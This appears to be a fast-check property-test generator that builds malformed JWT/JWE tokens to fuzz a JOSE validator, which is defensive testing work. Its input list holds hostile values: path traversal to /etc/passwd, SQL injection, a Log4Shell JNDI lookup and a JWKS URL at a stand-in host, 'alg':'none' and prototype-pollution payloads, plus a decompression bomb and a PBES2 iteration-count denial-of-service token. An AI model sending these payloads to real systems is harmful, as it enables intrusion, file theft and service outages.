import fc from 'fast-check';
import { bomb, formOfJwe } from './forged-jwe.js';
import { type JoseEntry } from './jose-entries.js';

/** One thing that is changed in a JSON object: a member, and the JSON text that takes its place. */
interface Change {
  name: string;
  text: string;
  how: 'replaced' | 'doubled' | 'removed';
}

/** How a token is made for an entry: what is wrong with it. */
export interface Spoilt {
  header: Change[];
  claims: Change[];
  form: keyof typeof FORMS;
  noise: string;
}

const deep = (depth: number, open: string, close: string) => open.repeat(depth) + close.repeat(depth);

/** JSON texts that somebody may have put where another kind of value is meant. */
const TEXTS = [
  ...[
    'null',
    'true',
    '0',
    '-1',
    '1e400',
    '-1e400',
    '1.5',
    '9007199254740993',
    '1e-320',
    '""',
    '[]',
    '{}',
    '[[]]',
    '[null]',
  ],
  ...[
    '"\\u0000"',
    '"\\ud800"',
    '"\\u202e"',
    '"\\u00e9e\\u0301"',
    '"ﬀ"',
    '"ＲＳ256"',
    '"none"',
    '"nOnE"',
    '"HS256"',
    '"dir"',
    '" ES256"',
  ],
  ...[
    '{"length":3}',
    '{"toString":1}',
    '{"__proto__":{"alg":"none"}}',
    '{"then":1}',
    '["ES256"]',
    '[["a"]]',
    '{"a":{"b":{}}}',
  ],
  ...[
    '"../../../../etc/passwd"',
    '"\' OR 1=1 --"',
    '"${jndi:ldap://evil.test}"',
    '"https://evil.test/jwks"',
    '"file:///etc/passwd"',
  ],
  ...[
    '{"kty":"oct","k":"AAAA"}',
    '{"kty":"EC","crv":"P-256","x":"AAAA","y":"AAAA"}',
    '{"kty":"RSA","n":"AQ","e":"AQ"}',
  ],
  ...['["b64"]', '["exp","exp"]', '["constructor"]', '"DEF"', '2147483647', 'tru', '{"a":1', '"', ''],
  ...[
    deep(400, '[', ']'),
    deep(3000, '[', ''),
    deep(400, '{"a":', '1').replace(/1+$/, `1${'}'.repeat(400)}`),
  ],
  ...[
    JSON.stringify('x'.repeat(6000)),
    JSON.stringify(Array(800).fill('https://rp.test/')),
    `1${'0'.repeat(500)}`,
  ],
];

const HEADER =
  'alg kid typ cty crit b64 zip enc epk apu apv jwk jku x5c x5u x5t x5t#S256 p2c p2s iv tag nonce iss __proto__ constructor'.split(
    ' ',
  );
const CLAIMS =
  'iss sub aud exp nbf iat jti client_id response_type response_mode redirect_uri scope state nonce claims max_age resource prompt login_hint id_token_hint request request_uri code_challenge acr_values ui_locales binding_message requested_expiry act may_act cnf events sid auth_time software_id redirect_uris grant_types jwks jwks_uri contacts __proto__ constructor'.split(
    ' ',
  );

const change = (names: readonly string[]): fc.Arbitrary<Change> =>
  fc.record({
    name: fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...names) }, fc.string({ maxLength: 20 })),
    text: fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...TEXTS) }, fc.json({ maxDepth: 4 })),
    how: fc.constantFrom('replaced', 'replaced', 'doubled', 'removed'),
  });

const encode = (text: string | Buffer) => Buffer.from(text as string).toString('base64url');

/** Ways to write a token, from its three parts and some noise. */
const FORMS = {
  jws: ([header, claims, signature]: string[]) => `${header}.${claims}.${signature}`,
  'without signature': ([header, claims]: string[]) => `${header}.${claims}.`,
  'two parts': ([header, claims]: string[]) => `${header}.${claims}`,
  'four parts': (parts: string[], noise: string) => [...parts, encode(noise)].join('.'),
  'an empty part': ([header, , signature]: string[]) => `${header}..${signature}`,
  'noise for claims': ([header, , signature]: string[], noise: string) =>
    `${header}.${encode(noise)}.${signature}`,
  'noise for a header': ([, claims, signature]: string[], noise: string) =>
    `${encode(noise)}.${claims}.${signature}`,
  'noise for a signature': ([header, claims]: string[], noise: string) =>
    `${header}.${claims}.${encode(noise)}`,
  'base64 with padding': (parts: string[]) => parts.map((part) => `${part}==`).join('.'),
  'base64 of the other alphabet': (parts: string[]) =>
    parts.join('.').replaceAll('-', '+').replaceAll('_', '/'),
  'base64 with noise in it': (parts: string[], noise: string) => parts.join(`.${noise}`),
  'a line behind': (parts: string[]) => `${parts.join('.')}\n`,
  'cut off': (parts: string[], noise: string) => parts.join('.').slice(0, noise.length * 7),
  'JSON serialization': ([header, payload, signature]: string[]) =>
    JSON.stringify({ protected: header, payload, signature }),
  'JSON, general': ([header, payload, signature]: string[]) =>
    JSON.stringify({ payload, signatures: [{ protected: header, signature }] }),
  'bare JSON': ([, claims]: string[]) => Buffer.from(claims, 'base64url').toString(),
  'nothing but noise': (_parts: string[], noise: string) => noise,
  dots: (_parts: string[], noise: string) => '.'.repeat(noise.length * 40),
  'jwe by our own header': ([header, ...parts]: string[]) => [header, ...parts, 'AAAA', 'AAAA'].join('.'),
  'jwe by password': () =>
    formOfJwe({ alg: 'PBES2-HS512+A256KW', enc: 'A256GCM', p2c: 2_147_483_647, p2s: 'AAAAAAAAAAA' }),
  'jwe that inflates': () => formOfJwe({ alg: 'RSA-OAEP-256', enc: 'A256GCM', zip: 'DEF' }, BOMB),
  'jwe of nothing': (_parts: string[], noise: string) =>
    formOfJwe({ alg: 'ECDH-ES', enc: 'A128GCM', epk: noise }),
  'huge header': ([, claims, signature]: string[]) =>
    `${encode(`{"alg":"ES256","x":"${'y'.repeat(9000)}"}`)}.${claims}.${signature}`,
  'huge claims': ([header, , signature]: string[]) =>
    `${header}.${encode(`{"iss":"${'y'.repeat(200_000)}"}`)}.${signature}`,
  'deep claims': ([header, , signature]: string[]) =>
    `${header}.${encode(deep(5500, '[', ']'))}.${signature}`,
};
const BOMB = bomb(8 * 1024);

/** Everything that may be wrong with a token; most are right in most things. */
export const spoilt: fc.Arbitrary<Spoilt> = fc.record({
  header: fc.array(change(HEADER), { maxLength: 2 }),
  claims: fc.array(change(CLAIMS), { maxLength: 4 }),
  form: fc.oneof(
    { weight: 3, arbitrary: fc.constant('jws' as const) },
    fc.constantFrom(...(Object.keys(FORMS) as (keyof typeof FORMS)[])),
  ),
  noise: fc.oneof(fc.string({ unit: 'binary', maxLength: 60 }), fc.json({ maxDepth: 3 })),
});

/** The token. Its signature is right for what it says, where the entry has the key. */
export function spoiltToken({ signer, claims }: JoseEntry, wrong: Spoilt): string {
  const parts = [changed(signer.header, wrong.header), changed(claims(), wrong.claims)].map(encode);
  return FORMS[wrong.form]([...parts, signer.sign(parts.join('.'))], wrong.noise);
}

/** A JSON text, since no object has a member twice. */
function changed(object: object, changes: readonly Change[]): string {
  let members = Object.entries(object).map(([name, value]) => [name, JSON.stringify(value)] as const);
  for (const { name, text, how } of changes) {
    if (how !== 'doubled') members = members.filter(([other]) => other !== name);
    if (how !== 'removed') members.push([name, text]);
  }
  return `{${members.map(([name, text]) => `${JSON.stringify(name)}:${text}`).join(',')}}`;
}
